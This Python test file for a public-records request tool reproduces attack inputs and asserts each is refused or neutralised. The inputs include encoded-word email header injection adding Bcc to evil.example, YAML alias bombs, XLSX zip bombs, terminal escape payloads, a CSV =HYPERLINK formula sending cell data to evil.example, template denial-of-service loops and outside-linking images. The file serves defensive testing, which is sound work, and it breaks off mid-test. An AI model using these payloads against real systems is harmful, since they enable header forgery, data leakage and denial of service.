"""Under attack, round two: each defect of the hostile trial reproduced as written, and a test of
the class behind it. Every input is real: files on disk, the real email parser, real workbooks,
the real log; only the clock and nothing else is set."""

from __future__ import annotations

import csv
import email
import email.policy
import io
import os
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import zipfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from recordskit.cli import cli
from recordskit.documents.email_draft import BOUNDARY, email_draft
from recordskit.documents.exports import schedule_csv
from recordskit.documents.rendering.docx_text import docx_text
from recordskit.errors import InputFileError, TemplateError
from recordskit.files import write_folder
from recordskit.intake.answers import request_from
from recordskit.intake.privacy import personal_details
from recordskit.intake.rows import read_rows
from recordskit.service import (
    Directory,
    LetterTemplate,
    UserError,
    load_answers,
    open_log,
    prepare_request,
    stamp,
)
from tests.conftest import FROZEN_AGENCIES, FROZEN_TEMPLATES, examples

Answers = Callable[..., dict[str, Any]]
ENCODED_BCC = ("=?utf-8?b?QW5hDQpCY2M6IHZpY3RpbUBldmlsLmV4YW1wbGUuY29tDQpSZXBseS1UbzogZXZpbEBl"
               "dmlsLmV4YW1wbGUuY29t?=")
ENCODED_HTML = ("=?utf-8?q?a=0D=0AContent-Type=3A_text/html=0D=0A=0D=0A=3Cb=3Ehi=3C/b=3E?=")


def invoke(*args: str) -> Any:
    return CliRunner().invoke(cli, list(args))


def draft_headers(directory: Directory, answers: Answers, **changes: Any) -> Any:
    request = request_from(answers(**changes), directory)
    made = prepare_request(request, directory)
    return email.message_from_bytes(made.files["email.eml"], policy=email.policy.default)


# 1. Email header and MIME injection through RFC 2047 encoded words.
@pytest.mark.parametrize("payload", [ENCODED_BCC, ENCODED_HTML])
def test_encoded_words_forge_no_header_or_body(directory: Directory, answers: Answers,
                                               payload: str) -> None:
    message = draft_headers(directory, answers, requester__name=payload)
    assert sorted(message.keys()) == sorted(["To", "From", "Subject", "Date", "Message-ID",
                                             "X-Unsent", "MIME-Version", "Content-Type"])
    assert message["Bcc"] is None and message["Reply-To"] is None
    assert [part.get_content_type() for part in message.walk()] == [
        "multipart/mixed", "text/plain",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"]
    assert str(message["From"]).startswith(payload.replace("=?", "= ?")[:20])


def test_a_letter_that_writes_the_boundary_cannot_split_the_draft(directory: Directory,
                                                                 answers: Answers) -> None:
    # The draft's boundary is fixed; the letter's text is quoted-printable, so an address that
    # writes the boundary on a line of its own (with a forged part after it) stays in the text.
    forged = f"1 Main St\n--{BOUNDARY}\nContent-Type: text/html\n\n<b>hi</b>\n--{BOUNDARY}--"
    message = draft_headers(directory, answers, requester__mailing_address=forged)
    parts = [part.get_content_type() for part in message.walk()]
    assert parts == ["multipart/mixed", "text/plain",
                     "application/vnd.openxmlformats-officedocument.wordprocessingml.document"]
    body = message.get_body(("plain",)).get_content()
    assert f"\n1 Main St\n--{BOUNDARY}\nContent-Type: text/html\n" in body
    attachment = next(message.iter_attachments())
    assert attachment.get_filename() == "public-records-request.docx"
    assert forged.splitlines()[-1] in docx_text(attachment.get_content())


_LETTER = LetterTemplate(FROZEN_TEMPLATES / "summary.docx").render(
    {"title": "t", "asked_label": "", "asked": [], "whom_label": "", "whom": "", "sent": "",
     "dates_label": "", "rows": [], "keep": ""}, stamp("t", "summary.docx"))


@settings(max_examples=examples(40), deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=st.text(st.characters(blacklist_categories=("Cs",)), max_size=60),
       organization=st.sampled_from(["", "=?utf-8?q?x=0D=0ABcc:_a@b.c?=", "Org\r\nBcc: a@b.c"]))
def test_no_header_text_adds_a_header_class(directory: Directory, answers: Answers, name: str,
                                            organization: str) -> None:
    try:
        request = request_from(answers(requester__name=name,
                                       requester__organization=organization), directory)
    except InputFileError:
        return  # refused where it is read (control characters): nothing reaches a header
    draft = email_draft(request, directory.agency("bps"), _LETTER, "Public records request")
    assert draft is not None
    message = email.message_from_bytes(draft, policy=email.policy.default)
    assert set(message.keys()) <= {"To", "From", "Subject", "Date", "Message-ID", "X-Unsent",
                                   "MIME-Version", "Content-Type"}


_MESSAGE_ID = re.compile(rb"Message-ID:[^\n]*\n(?:[ \t][^\n]*\n)*")


def _draft_by_the_email_package(request: Any, agency: Any, letter: bytes, subject: str) -> bytes:
    """The draft as an ``EmailMessage`` built and written whole by the email package (how
    ``email_draft`` made it before it wrote the same bytes itself)."""
    from datetime import datetime, time
    from email.headerregistry import Address
    from email.message import EmailMessage
    from email.utils import format_datetime, make_msgid

    import recordskit.documents.email_draft as drafts

    message = EmailMessage(policy=email.policy.default)
    person = request.requester
    message["To"] = str(Address(addr_spec=agency.records_officer.email))
    if person.email:
        name = drafts.header_text(person.name or person.organization)
        sender = Address(display_name=name, addr_spec=person.email)
        if max(map(len, name.split() or [""])) <= drafts._LONGEST_WORD:
            message["From"] = sender
        else:
            message.set_raw("From", f"{drafts.encoded_words(name)}\n <{sender.addr_spec}>")
    message["Subject"] = drafts.header_text(subject)
    message["Date"] = format_datetime(datetime.combine(request.sent_on, time(9, 0)).astimezone())
    message["Message-ID"] = make_msgid(idstring=request.fingerprint(), domain="recordskit.invalid")
    message["X-Unsent"] = "1"
    message.set_content(docx_text(letter), charset="utf-8", cte="quoted-printable")
    message.add_attachment(
        letter, maintype="application",
        subtype="vnd.openxmlformats-officedocument.wordprocessingml.document",
        filename="public-records-request.docx")
    message.set_boundary(BOUNDARY)
    return bytes(message)


@settings(max_examples=examples(40), deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=st.text(st.characters(blacklist_categories=("Cs",)), max_size=90),
       address=st.text(st.characters(blacklist_categories=("Cs",)), max_size=120),
       with_email=st.booleans())
def test_a_draft_is_written_as_the_email_package_writes_the_message(
        directory: Directory, answers: Answers, name: str, address: str,
        with_email: bool) -> None:
    # email_draft writes the bytes itself (each header folded by the email package, the frame
    # written by it once): the same bytes as the whole message written by the package, for any
    # name (the From header) and any letter text (the address is in the letter), with the
    # letter's text taken from its body as rendered or read back from the DOCX.
    try:
        request = request_from(answers(requester__name=name, requester__mailing_address=address,
                                       requester__email="family@clinic.example.org"
                                       if with_email else ""), directory)
    except InputFileError:
        return  # refused where it is read: no draft is made of it
    made = prepare_request(request, directory)
    letter = made.files["letter.docx"]
    agency = request.addressed(directory.agency(request.agency))
    subject = f"Public records request: {agency.name} {name}"
    expected = _MESSAGE_ID.sub(b"", _draft_by_the_email_package(request, agency, letter, subject))
    with zipfile.ZipFile(io.BytesIO(letter)) as archive:
        body = archive.read("word/document.xml").decode("utf-8")
    for letter_xml in (body, None):
        draft = email_draft(request, agency, letter, subject, letter_xml=letter_xml)
        assert draft is not None
        assert _MESSAGE_ID.sub(b"", draft) == expected
        assert len(_MESSAGE_ID.findall(draft)) == 1


# 600 drafts, to pass the 256 headers kept (2.5 s of CPU); every draft the quick run makes
# goes through the same kept headers, and test_no_header_text_adds_a_header_class reads them
@pytest.mark.slow
def test_drafts_that_share_headers_are_written_as_the_email_package_writes_them(
        directory: Directory, answers: Answers, monkeypatch: pytest.MonkeyPatch) -> None:
    # Drafts keep the headers they share, made and folded once. Three hundred requesters (more
    # than are kept) with hostile names, each draft against the email package's default policy:
    # a kept header never carries one family's name or address into another's draft.
    import recordskit.documents.email_draft as drafts

    names = [ENCODED_BCC, "Ana\u202eevil", "O'Brien \"Co\" <x@y.z>", "Família Número",
             "x" * 90, "=?utf-8?q?x?=", ""]
    requests = [request_from(answers(requester__name=f"{names[n % len(names)]} {n}",
                                     requester__email=f"family{n}@clinic.example.org"),
                             directory) for n in range(300)]
    agency = directory.agency("bps")
    kept = [email_draft(request, agency, _LETTER, "Public records request")
            for request in requests]
    monkeypatch.setattr(drafts, "DRAFT_POLICY", email.policy.default)
    plain = [email_draft(request, agency, _LETTER, "Public records request")
             for request in requests]
    for number, (fast, slow) in enumerate(zip(kept, plain, strict=True)):
        assert fast is not None and slow is not None
        assert _MESSAGE_ID.sub(b"", fast) == _MESSAGE_ID.sub(b"", slow), number
        sender = email.message_from_bytes(fast, policy=email.policy.default)["From"]
        assert sender.addresses[0].addr_spec == f"family{number}@clinic.example.org"


# 2. YAML alias bombs, and the class: every YAML input refuses anchors, aliases, deep nesting.
BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8))


def test_an_alias_bomb_in_an_answers_file_is_refused(tmp_path: Path,
                                                     directory: Directory) -> None:
    path = tmp_path / "a.yaml"
    path.write_text(BOMB)
    with pytest.raises(InputFileError, match=r"a.yaml:1:4: uses a YAML anchor or alias"):
        load_answers(path, directory)


@pytest.mark.parametrize("command", [["agencies", "validate"], ["agencies", "list"],
                                     ["agencies", "edit", "bps", "--set", "notes=x"]])
def test_an_alias_bomb_in_the_directory_is_refused(tmp_path: Path, command: list[str]) -> None:
    path = tmp_path / "agencies.yaml"
    path.write_text(FROZEN_AGENCIES.read_text() + "\nunknown_key:\n  " +
                    BOMB.replace("\n", "\n  "))
    if command[1] == "edit":
        command = [*command[:3], str(path), *command[3:]]
        result = invoke(*command)
    else:
        result = invoke("--agencies", str(path), *command)
    assert result.exit_code == 1
    assert "uses a YAML anchor or alias" in result.output


@pytest.mark.parametrize("text", ["a: " + "[" * 20_000 + "]" * 20_000,
                                  "a: " + "{b: " * 50 + "1" + "}" * 50])
def test_deep_nesting_is_refused(tmp_path: Path, directory: Directory, text: str) -> None:
    path = tmp_path / "a.yaml"
    path.write_text(text)
    with pytest.raises(InputFileError, match="nesting is over the limit of 40"):
        load_answers(path, directory)
    rows = tmp_path / "rows.yaml"
    rows.write_text("- " + text)
    with pytest.raises(InputFileError, match="nesting is over the limit"):
        read_rows(rows)


# 3. XLSX dimension and zip bombs.
def _xlsx(sheet_xml: str, padding: int = 0) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml",
                      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                      'package/2006/content-types"><Default Extension="rels" ContentType="'
                      'application/vnd.openxmlformats-package.relationships+xml"/><Default '
                      'Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
                      'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                      'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.'
                      'xml" ContentType="application/vnd.openxmlformats-officedocument.'
                      'spreadsheetml.worksheet+xml"/></Types>')
        book.writestr("_rels/.rels",
                      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.'
                      'org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
                      'schemas.openxmlformats.org/officeDocument/2006/relationships/'
                      'officeDocument" Target="xl/workbook.xml"/></Relationships>')
        book.writestr("xl/workbook.xml",
                      '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/'
                      'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
                      'officeDocument/2006/relationships"><sheets><sheet name="s" sheetId="1" '
                      'r:id="rId1"/></sheets></workbook>')
        book.writestr("xl/_rels/workbook.xml.rels",
                      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.'
                      'org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
                      'schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
                      'Target="worksheets/sheet1.xml"/></Relationships>')
        book.writestr("xl/worksheets/sheet1.xml", sheet_xml)
        if padding:
            book.writestr("padding.bin", b"\0" * padding)
    return out.getvalue()


def test_a_declared_sheet_of_a_million_rows_is_read_as_it_really_is(tmp_path: Path) -> None:
    sheet = ('<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
             'spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/><sheetData>'
             '<row r="1"><c r="A1" t="inlineStr"><is><t>agency</t></is></c></row>'
             '<row r="2"><c r="A2" t="inlineStr"><is><t>bps</t></is></c></row>'
             '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>'
             '</sheetData></worksheet>')
    path = tmp_path / "rows.xlsx"
    path.write_bytes(_xlsx(sheet))
    rows = read_rows(path)  # quick and small: bounded by the limits, not the dimension
    assert [row.values.get("agency") for row in rows] == ["bps"]


def test_an_xlsx_zip_bomb_is_refused_before_it_is_opened(tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch
                                                         ) -> None:
    monkeypatch.setenv("RECORDSKIT_MAX_BATCH_UNPACKED_BYTES", "1000000")
    path = tmp_path / "rows.xlsx"
    path.write_bytes(_xlsx("<worksheet/>", padding=5_000_000))  # 5 MB of zeros, 5 KB packed
    assert path.stat().st_size < 100_000
    with pytest.raises(InputFileError, match="unpacked is over the limit of 1,000,000 bytes"):
        read_rows(path)


def test_a_batch_file_over_its_row_limit_is_refused(tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RECORDSKIT_MAX_BATCH_ROWS", "3")
    path = tmp_path / "rows.csv"
    path.write_text("agency\n" + "bps\n" * 4)
    with pytest.raises(InputFileError,
                       match=r"over the limit of 3 rows.*RECORDSKIT_MAX_BATCH_ROWS"):
        read_rows(path)


# 4. --check approves rows that then abort a batch; 16. dates outside the sane window.
@pytest.mark.parametrize(("column", "value", "message"), [
    ("requester.email", "a@x.org.", "is not an email address"),
    ("sent_on", "9999-12-01", "is outside 1990–2100"),
    ("sent_on", "0001-01-01", "is outside 1990–2100"),
])
def test_check_refuses_what_production_would_fail_on(tmp_path: Path, column: str, value: str,
                                                     message: str) -> None:
    path = tmp_path / "rows.csv"
    row = {"agency": "bps", "records": "school-police-reports-shared-with-bric",
           "requester.email": "a@b.org", "delivery": "email", "sent_on": "2026-11-23"}
    row[column] = value
    path.write_text(",".join(row) + "\n" + ",".join(row.values()) + "\n")
    checked = invoke("batch", str(path), "--check")
    assert checked.exit_code == 1 and message in checked.output
    produced = invoke("batch", str(path), "--out", str(tmp_path / "out"))
    assert produced.exit_code == 1  # reported, no traceback
    assert message in (tmp_path / "out" / "errors.csv").read_text()
    assert (tmp_path / "out" / "manifest.csv").exists()


# 5. Rich markup and escape sequences in user text, in every command that shows it.
MARKUP = "Emails about [/bold] [red]stuff[/red] \x1b[2J\x1b]0;owned\x07 \u202edetaler\u2066"


def test_markup_and_escapes_in_user_text_are_shown_as_text(tmp_path: Path,
                                                           answers: Answers) -> None:
    path = tmp_path / "a.yaml"
    path.write_text(yaml.safe_dump(answers(other_records=MARKUP.replace("\x1b", "").replace(
        "\x07", ""), records=[])))
    made = invoke("new", "--answers", str(path), "--out", str(tmp_path / "out[/x]"))
    assert made.exit_code == 0, made.output
    request_id = open_log().all()[0].id
    noted = invoke("log", request_id, "received", "--on", "2026-06-12", "--note", MARKUP,
                   "--tracking", "[/note]\x1b[31m")
    assert noted.exit_code == 0, noted.output
    for command in (["status"], ["show", request_id], ["status", "--json"]):
        shown = invoke(*command)
        assert shown.exit_code == 0, (command, shown.output)
        assert "\x1b" not in shown.output and "\x07" not in shown.output
        # A bidirectional override would show the rest of the line reversed ("reladet…").
        assert "\u202e" not in shown.output and "\u2066" not in shown.output
    show = invoke("show", request_id)
    assert "[/bold]" in show.output and "[red]stuff[/red]" in show.output
    assert "[/note]" in show.output


# 6. A request logged with another directory; 16. damaged rows in the log.
def test_a_request_of_another_directory_does_not_break_the_log(tmp_path: Path,
                                                               answers: Answers) -> None:
    custom = tmp_path / "agencies.yaml"
    custom.write_text(FROZEN_AGENCIES.read_text().replace("  - id: bps\n", "  - id: bps-charter\n"))
    path = tmp_path / "a.yaml"
    path.write_text(yaml.safe_dump(answers(agency="bps-charter")))
    assert invoke("--agencies", str(custom), "new", "--answers", str(path), "--out",
                  str(tmp_path / "o")).exit_code == 0
    request_id = open_log().all()[0].id
    for command in (["status"], ["status", "--json"], ["show", request_id],
                    ["calendar", "--out", str(tmp_path / "c.ics")]):
        result = invoke(*command)
        assert result.exit_code == 0, (command, result.output)
        assert "bps-charter" in result.output


def test_damaged_rows_are_reported_by_id(tmp_path: Path, answers: Answers,
                                         _private_log: Path) -> None:
    path = tmp_path / "a.yaml"
    for sent in ("2026-06-12", "2026-06-15"):
        path.write_text(yaml.safe_dump(answers(sent_on=sent)))
        assert invoke("new", "--answers", str(path), "--out", str(tmp_path / sent)).exit_code == 0
    good, bad = (r.id for r in open_log().all())
    with sqlite3.connect(_private_log / "requests.sqlite3") as db:
        db.execute("UPDATE requests SET answers = '{not json' WHERE id = ?", (bad,))
        db.execute("INSERT INTO events (request_id, event, on_date, details, recorded_at) "
                   "VALUES (?, 'received', '2026-06-12', '[1, 2]', 'x')", (good,))
    status = invoke("status")
    assert status.exit_code == 0
    assert f"request {bad} in the log cannot be read" in status.output
    assert f"request {good} in the log cannot be read" in status.output
    shown = invoke("show", good)
    assert shown.exit_code == 1 and "its details are not a mapping" in shown.output
    # A damaged undo does not stop a request being made again in its folder.
    with sqlite3.connect(_private_log / "requests.sqlite3") as db:
        db.execute("INSERT INTO events (request_id, event, on_date, details, recorded_at) "
                   "VALUES (?, 'undo', '2026-06-16', '{not json', 'x')", (good,))
    path.write_text(yaml.safe_dump(answers(sent_on="2026-06-16")))
    again = invoke("new", "--answers", str(path), "--out", str(tmp_path / "2026-06-12"),
                   "--force")
    assert again.exit_code == 0, again.output


def test_a_family_is_told_of_unreadable_requests_in_its_own_language(
        tmp_path: Path, answers: Answers, _private_log: Path) -> None:
    # A Spanish-speaking family's log: one request made with another directory, one damaged
    # by hand. Both warnings were English whatever the family's language.
    custom = tmp_path / "agencies.yaml"
    custom.write_text(FROZEN_AGENCIES.read_text().replace("  - id: bps\n", "  - id: bps-charter\n"))
    path = tmp_path / "a.yaml"
    made = []
    for number, (agency, directory) in enumerate([("bps-charter", ["--agencies", str(custom)]),
                                                  ("bps", []), ("bps", [])]):
        path.write_text(yaml.safe_dump(answers(agency=agency, language="es",
                                               sent_on=f"2026-06-1{number + 2}")))
        result = invoke(*directory, "new", "--answers", str(path), "--out",
                        str(tmp_path / str(number)))
        assert result.exit_code == 0, result.output
        [logged] = [r for r in open_log().all() if Path(r.folder).name == str(number)]
        made.append(logged.id)
    other, _good, damaged = made
    with sqlite3.connect(_private_log / "requests.sqlite3") as db:
        db.execute("INSERT INTO events (request_id, event, on_date, details, recorded_at) "
                   "VALUES (?, 'received', '2026-06-15', '[1, 2]', 'x')", (damaged,))
    status = invoke("status")
    assert status.exit_code == 0, status.output
    assert (f"la solicitud {other} se hizo con un directorio que incluye la agencia "
            "'bps-charter'") in status.output
    assert f"la solicitud {damaged} del registro no se puede leer" in status.output
    assert "cannot be read" not in status.output and "lists the agency" not in status.output
    shown = invoke("show", other)
    assert "se hizo con un directorio que incluye la agencia" in shown.output, shown.output


@pytest.mark.parametrize(("event", "on_date", "details", "reason"), [
    ("response", "2026-06-20", '{"kind": "extension", "until": "soon"}',
     "until 'soon' is not a date"),
    ("petition_granted", "2026-06-20", '{"days": "ten"}', "days 'ten' is not a whole number"),
    ("response", "2026-06-20", '{"kind": "maybe"}', "a response needs its kind, one of"),
    ("exploded", "2026-06-20", "{}", "unknown event 'exploded'"),
    ("received", "2026-02-30", "{}", "on_date '2026-02-30' is not a date"),
])
def test_an_event_the_schedule_cannot_count_with_is_reported_not_a_traceback(
        tmp_path: Path, answers: Answers, _private_log: Path, event: str, on_date: str,
        details: str, reason: str) -> None:
    # A log edited by hand (or filled by an older import): every command still runs, and says
    # which request cannot be read and why. Before, the schedule met "soon" and crashed.
    path = tmp_path / "a.yaml"
    path.write_text(yaml.safe_dump(answers(sent_on="2026-06-12")))
    assert invoke("new", "--answers", str(path), "--out", str(tmp_path / "r")).exit_code == 0
    [request_id] = [r.id for r in open_log().all()]
    with sqlite3.connect(_private_log / "requests.sqlite3") as db:
        db.execute("INSERT INTO events (request_id, event, on_date, details, recorded_at) "
                   "VALUES (?, ?, ?, ?, 'x')", (request_id, event, on_date, details))
    for command in (["status"], ["status", "--json"], ["calendar", "--out", str(tmp_path / "c")]):
        result = invoke(*command)
        assert result.exit_code == 0, (command, result.output)
        assert f"request {request_id} in the log cannot be read" in result.output
        assert reason in result.output
    shown = invoke("show", request_id)
    assert shown.exit_code == 1 and reason in shown.output and "Traceback" not in shown.output


# 7. Concurrent agencies edits: the second refuses instead of losing the first.
def test_a_concurrent_edit_refuses_instead_of_losing_one(tmp_path: Path) -> None:
    from recordskit.service import EditableDirectory

    path = tmp_path / "agencies.yaml"
    path.write_bytes(FROZEN_AGENCIES.read_bytes())
    first, second = EditableDirectory.open(path), EditableDirectory.open(path)
    first.set("bps", "records_officer.phone", "617-635-0001")
    second.set("bps", "records_officer.fax", "617-635-0002")
    assert first.save()
    with pytest.raises(UserError, match="changed by someone else since it was opened"):
        second.save()
    assert "617-635-0001" in path.read_text() and "617-635-0002" not in path.read_text()


# 8. Writes through links; 12. two runs; 13. a full disk; 17. modes.
def test_a_batch_never_writes_through_a_linked_row_folder(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "letter.docx").write_text("precious")
    out = tmp_path / "out"
    out.mkdir()
    (out / "c0-bps").symlink_to(victim)
    (out / "c1-bps").mkdir()
    (out / "c1-bps" / "letter.docx").symlink_to(tmp_path / "nowhere")  # dangling
    rows = tmp_path / "rows.csv"
    rows.write_text("row_id,agency,records,requester.email,delivery,sent_on\n"
                    "c0,bps,school-police-reports-shared-with-bric,a@b.org,email,2026-11-23\n"
                    "c1,bps,school-police-reports-shared-with-bric,b@b.org,email,2026-11-23\n")
    result = invoke("batch", str(rows), "--out", str(out))
    assert result.exit_code == 1
    assert (victim / "letter.docx").read_text() == "precious"
    assert sorted(p.name for p in victim.iterdir()) == ["letter.docx"]
    assert (out / "c1-bps" / "letter.docx").is_symlink()  # not replaced without --force
    errors = (out / "errors.csv").read_text()
    assert "is a symbolic link; recordskit does not write through links" in errors


def test_new_force_on_a_full_disk_keeps_the_old_set(tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    import recordskit.files

    folder = tmp_path / "out"
    write_folder(folder, {"letter.docx": b"old letter", "answers.yaml": b"old answers"})
    calls = {"n": 0}

    def full_on_second(fd: int) -> None:
        calls["n"] += 1
        if calls["n"] == 2:
            raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(recordskit.files.os, "fsync", full_on_second)
    with pytest.raises(UserError, match="No space left on device"):
        write_folder(folder, {"letter.docx": b"new letter", "answers.yaml": b"new answers"},
                     force=True)
    assert (folder / "letter.docx").read_bytes() == b"old letter"
    assert (folder / "answers.yaml").read_bytes() == b"old answers"
    assert sorted(p.name for p in folder.iterdir()) == ["answers.yaml", "letter.docx"]


def test_a_replaced_file_keeps_its_mode_whatever_the_umask_takes(tmp_path: Path) -> None:
    # A group-writable file (which the usual umask 022 would not give a new one) and a private
    # one: rewritten, each keeps its own mode.
    folder = tmp_path / "o"
    write_folder(folder, {"shared.csv": b"1", "private.yaml": b"1"})
    (folder / "shared.csv").chmod(0o664)
    (folder / "private.yaml").chmod(0o600)
    old = os.umask(0o022)
    try:
        write_folder(folder, {"shared.csv": b"2", "private.yaml": b"2"}, force=True)
    finally:
        os.umask(old)
    assert (folder / "shared.csv").stat().st_mode & 0o777 == 0o664
    assert (folder / "private.yaml").stat().st_mode & 0o777 == 0o600
    assert (folder / "shared.csv").read_bytes() == b"2"


def test_modes_follow_the_umask_and_the_replaced_file(tmp_path: Path) -> None:
    old = os.umask(0o077)
    try:
        write_folder(tmp_path / "o", {"answers.yaml": b"private"})
        assert (tmp_path / "o" / "answers.yaml").stat().st_mode & 0o777 == 0o600
    finally:
        os.umask(old)
    target = tmp_path / "agencies.yaml"
    target.write_bytes(FROZEN_AGENCIES.read_bytes())
    target.chmod(0o600)
    edited = invoke("agencies", "edit", "bps", str(target), "--set", "notes=checked",
                    "--yes")
    assert edited.exit_code == 0, edited.output
    assert target.stat().st_mode & 0o777 == 0o600
    link = tmp_path / "link.yaml"
    link.symlink_to(target)
    refused = invoke("agencies", "edit", "bps", str(link), "--set", "notes=again", "--yes")
    assert refused.exit_code == 1 and "is a symbolic link" in refused.output
    assert link.is_symlink()


def test_two_runs_never_remove_each_others_temporary_files(tmp_path: Path) -> None:
    from recordskit.files import leftover_temporaries

    folder = tmp_path / "row"
    folder.mkdir()
    mine = folder / f".letter.docx.rk{os.getpid()}.abc.tmp"
    dead = folder / ".letter.docx.rk999999999.abc.tmp"
    mine.write_text("in progress")
    dead.write_text("left by a killed run")
    assert leftover_temporaries(folder) == [dead]


# 9. CSV injection in every CSV written.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1)",
            "\t=1", "\r=1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_csv_cell_starts_a_formula(tmp_path: Path, formula: str) -> None:
    rows = tmp_path / "rows.csv"
    with rows.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["row_id", "agency", "records", "requester.email", "delivery"])
        writer.writerow([formula, "bps", "school-police-reports-shared-with-bric", "a@b.org",
                         "email"])
        writer.writerow([formula, "nowhere", "", "a@b.org", "email"])
    invoke("batch", str(rows), "--out", str(tmp_path / "out"))
    for name in ("manifest.csv", "errors.csv"):
        for row in csv.reader((tmp_path / "out" / name).open(newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)


def test_schedule_csv_cells_are_safe(directory: Directory, answers: Answers) -> None:
    request = request_from(answers(), directory)
    made = prepare_request(request, directory)
    text = schedule_csv(made.schedule.deadlines)
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


# 10. and 11. Templates: outside links, denial of service.
def _template_with(tmp_path: Path, body: str | None = None, *, rels: str | None = None,
                   encoding: str = "utf-8") -> Path:
    source = FROZEN_TEMPLATES / "request.docx"
    out = tmp_path / "request.docx"
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info.filename)
            if info.filename == "word/document.xml" and body is not None:
                xml = data.decode("utf-8")
                start = xml.index("<w:body>") + len("<w:body>")
                data = (xml[:start] + f"<w:p><w:r><w:t>{body}</w:t></w:r></w:p>"
                        + xml[start:]).encode(encoding)
            if info.filename == "word/_rels/document.xml.rels" and rels is not None:
                data = data.decode("utf-8").replace("</Relationships>",
                                                    rels + "</Relationships>").encode("utf-8")
            new.writestr(info, data)
    return out


@pytest.mark.parametrize(("body", "message"), [
    ("{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
     "loops is over the limit"),
    ("{{ 'a' * 3000000000 }}", "is over the limit"),
    ("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "calls itself without end"),
    ("{% include 'x.docx' %}", "x.docx"),
    ("{{ 'a'.center(3000000000) }}", "is over the limit"),
])
def test_template_denial_of_service_is_a_clear_error(tmp_path: Path, body: str,
                                                     message: str) -> None:
    from recordskit.documents.contexts.samples import sample_request_context
    from recordskit.documents.template_check import check_template

    path = _template_with(tmp_path, body)
    with pytest.raises(TemplateError, match=message):
        LetterTemplate(path).render(sample_request_context(), stamp("t", "request.docx"))
    problems = check_template(path)
    assert any(message.split()[0] in p.message for p in problems), problems


@pytest.mark.parametrize(("kind", "message"), [
    ("external image", "links to an outside file (http://evil.example/x.png)"),
    ("utf-16", "is not UTF-8"),
    ("zip bomb", "unpacked is over the limit"),
])
def test_a_template_that_would_reach_out_or_blow_up_is_refused(
        tmp_path: Path, kind: str, message: str, monkeypatch: pytest.MonkeyPatch) -> None:
    from recordskit.documents.template_check import check_template

    if kind == "external image":
        path = _template_with(tmp_path, rels=(
            '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/image" Target="http://evil.example/x.png" '
            'TargetMode="External"/>'))
    elif kind == "utf-16":
        path = _template_with(tmp_path, "x", encoding="utf-16")
    else:
        monkeypatch.setenv("RECORDSKIT_MAX_TEMPLATE_UNPACKED_BYTES", "100000")
        path = _template_with(tmp_path)
    with pytest.raises(TemplateError, match=re.escape(message)):
        LetterTemplate(path)
    assert any(message in p.message for p in check_template(path))


def test_a_document_linking_outside_is_never_handed_to_libreoffice(tmp_path: Path) -> None:
    from recordskit.documents.rendering.pdf import to_pdf

    path = _template_with(tmp_path, rels=(
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/image" Target="http://evil.example/x.png" TargetMode="External"/>'))
    with pytest.raises(UserError, match=re.escape(
            "letter.docx: word/_rels/document.xml.rels links to an outside file "
            "(http://evil.example/x.png); LibreOffice would fetch it")):
        to_pdf({"letter.docx": path.read_bytes()})


_CONNECT = ("import socket, sys\n"
            "try:\n"
            "    socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=5).close()\n"
            "except OSError:\n"
            "    sys.exit(3)\n")


def test_libreoffice_runs_without_a_network_where_the_machine_allows(tmp_path: Path) -> None:
    """The prefix LibreOffice runs under cannot reach even a server on this machine's loopback,
    which the same program reaches without it."""
    from recordskit.documents.rendering.pdf import network_isolation

    prefix = network_isolation()
    if not prefix:
        pytest.skip("user namespaces are off here; outside links are refused regardless")
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = str(server.getsockname()[1])
        reachable = subprocess.run([sys.executable, "-c", _CONNECT, port], check=False)
